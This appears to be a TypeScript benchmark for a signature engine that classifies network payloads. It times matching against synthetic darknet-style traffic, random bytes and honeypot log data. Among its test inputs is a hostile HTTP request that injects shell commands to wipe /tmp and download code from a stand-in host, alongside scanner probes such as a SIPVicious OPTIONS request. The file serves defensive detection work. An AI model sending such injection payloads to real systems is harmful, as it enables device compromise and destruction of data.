// Payloads per CPU second that the signatures take, beside the whole judgement: darknet-like short payloads, payloads that no
// signature knows, and the first payloads of a honeypot's log.
// Usage: npm run -s build:bench && node bench/out/build/bench/signatures.js [--signatures 1000] [--write FOLDER]
// (--write: only writes the made-up signatures there, for an import with `rules: { signatures: [FOLDER] }`)
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { gunzipSync } from 'node:zlib'
import { rulesFolder } from '../src/base/package-paths.ts'
import { seededRandom } from '../src/base/random.ts'
import { judgePayload } from '../src/classify/judge-payload.ts'
import { recognise } from '../src/classify/protocols/recognise.ts'
import { rulesThatHold } from '../src/classify/rules/signature-engine.ts'
import { loadSignatures } from '../src/classify/rules/signature-set.ts'
import { manySignatures } from './many-signatures.ts'

const option = (name: string) => process.argv[process.argv.indexOf(name) + 1]
const wanted = process.argv.includes('--signatures') ? Number(option('--signatures')) : 1000
if (process.argv.includes('--write')) {
  writeFileSync(join(option('--write')!, 'made.yaml'), manySignatures(wanted))
  process.exit(0)
}

interface Sent {
  bytes: Uint8Array
  transport: number
}

/** The mix of ../shared/tools/darknet-capture.c: DNS, NTP, SSDP, SIP, memcached, web requests, TLS, SSH. */
function darknetPayloads(count: number): Sent[] {
  const random = seededRandom(2)
  const address = () => `44.0.${random.below(256)}.${random.below(256)}`
  const udp = (bytes: Uint8Array): Sent => ({ bytes, transport: 17 })
  const tcp = (text: string): Sent => ({ bytes: Buffer.from(text, 'latin1'), transport: 6 })
  const makers: (() => Sent)[] = [
    () =>
      udp(
        Buffer.from(
          `${random.below(65536).toString(16).padStart(4, '0')}010000010000000000010776657273696f6e0462696e640000100003000029100000000000000000`,
          'hex',
        ),
      ),
    () => udp(Buffer.from('1700032a00000000', 'hex')),
    () => udp(Buffer.concat([Buffer.from('e300fa01', 'hex'), Buffer.alloc(44)])),
    () =>
      udp(
        Buffer.from(
          'M-SEARCH * HTTP/1.1\r\nHost:239.255.255.250:1900\r\nST:ssdp:all\r\nMan:"ssdp:discover"\r\nMX:3\r\n\r\n',
        ),
      ),
    () =>
      udp(
        Buffer.from(
          `OPTIONS sip:100@203.0.113.${random.below(256)} SIP/2.0\r\nVia: SIP/2.0/UDP 198.51.100.7:5088;branch=z9hG4bK-${random.below(1e9)};rport\r\nContent-Length: 0\r\nFrom: "sipvicious"<sip:100@1.1.1.1>;tag=${random.below(1e9)}\r\nUser-Agent: friendly-scanner\r\n\r\n`,
        ),
      ),
    () => udp(Buffer.from('\0\0\0\0\0\x01\0\0stats\r\n', 'latin1')),
    () => tcp(`GET / HTTP/1.1\r\nHost: ${address()}:80\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n`),
    () =>
      tcp(
        `GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/x HTTP/1.1\r\nUser-Agent: Hello, world\r\nHost: ${address()}:80\r\n\r\n`,
      ),
    () =>
      tcp(
        `\x16\x03\x01\x00\x2f\x01\x00\x00\x2b\x03\x03${Array.from({ length: 41 }, () => String.fromCharCode(random.below(256))).join('')}`,
      ),
    () => tcp('SSH-2.0-Go\r\n'),
  ]
  return Array.from({ length: count }, () => makers[random.below(makers.length)]!())
}

/** 64 random bytes: nothing that a signature looks for. */
function unknownPayloads(count: number): Sent[] {
  const random = seededRandom(3)
  return Array.from({ length: count }, () => ({
    bytes: Uint8Array.from({ length: 64 }, () => random.below(256)),
    transport: 6,
  }))
}

function honeypotPayloads(): Sent[] {
  const shared = process.env.TEITEN_SHARED_DATA ?? resolve('../shared/data')
  const path = join(shared, 'tpot-2025/honeytrap.json.gz')
  if (!existsSync(path)) return []
  const text = gunzipSync(readFileSync(path)).toString('latin1')
  return [...text.matchAll(/"attack_connection": \{ "protocol": "(tcp|udp)"[^}]*"data_hex": "([0-9a-f]+)"/g)].map(
    m => ({
      bytes: Buffer.from(m[2]!, 'hex'),
      transport: m[1] === 'tcp' ? 6 : 17,
    }),
  )
}

const cpuMs = () => {
  const { user, system } = process.cpuUsage()
  return (user + system) / 1000
}

/** Best of five runs over all inputs, in microseconds of CPU for each. */
function cost<T>(inputs: readonly T[], run: (input: T) => unknown): number {
  const rounds = Math.max(1, Math.ceil(100_000 / inputs.length))
  let best = Number.POSITIVE_INFINITY
  for (let k = 0; k < 5; k++) {
    const before = cpuMs()
    for (let r = 0; r < rounds; r++) for (const input of inputs) run(input)
    best = Math.min(best, (1000 * (cpuMs() - before)) / (rounds * inputs.length))
  }
  return best
}

const folder = mkdtempSync(join(tmpdir(), 'signatures-'))
const own = loadSignatures([join(rulesFolder, 'signatures')])
writeFileSync(join(folder, 'made.yaml'), manySignatures(Math.max(1, wanted - own.rules.length)))
const before = cpuMs()
const set = loadSignatures([join(rulesFolder, 'signatures'), folder])
console.log(`${set.rules.length} signatures loaded in ${(cpuMs() - before).toFixed(0)} ms of CPU`)
rmSync(folder, { recursive: true })
const { finder, withoutLiteral } = set.engine
console.log(
  `table ${((finder.next.byteLength + finder.owners.byteLength) / 2 ** 20).toFixed(1)} MiB, ${finder.columns} columns; without a literal: ${[...withoutLiteral].map(([protocol, rules]) => `${protocol || 'any'} ${rules.length}`).join(', ')}`,
)
console.log('payloads                       count   bytes  signatures µs   M/CPU s   judgement µs')
for (const [name, payloads] of [
  ['darknet-like', darknetPayloads(20_000)],
  ['unknown, 64 bytes', unknownPayloads(20_000)],
  ['honeypot 2025', honeypotPayloads()],
] as const) {
  if (payloads.length === 0) continue
  const inputs = payloads.map(({ bytes, transport }) => {
    const { protocol, fields } = recognise(bytes, transport)
    return { bytes, transport, protocol, fields }
  })
  const matching = cost(inputs, input => rulesThatHold(set.engine, input))
  const judging = cost(payloads, p => judgePayload(p.bytes, p.transport, set))
  const mean = payloads.reduce((n, p) => n + p.bytes.length, 0) / payloads.length
  console.log(
    `${name.padEnd(26)}${String(payloads.length).padStart(10)}${mean.toFixed(0).padStart(8)}${matching.toFixed(2).padStart(15)}${(1 / matching).toFixed(2).padStart(10)}${judging.toFixed(2).padStart(15)}`,
  )
}
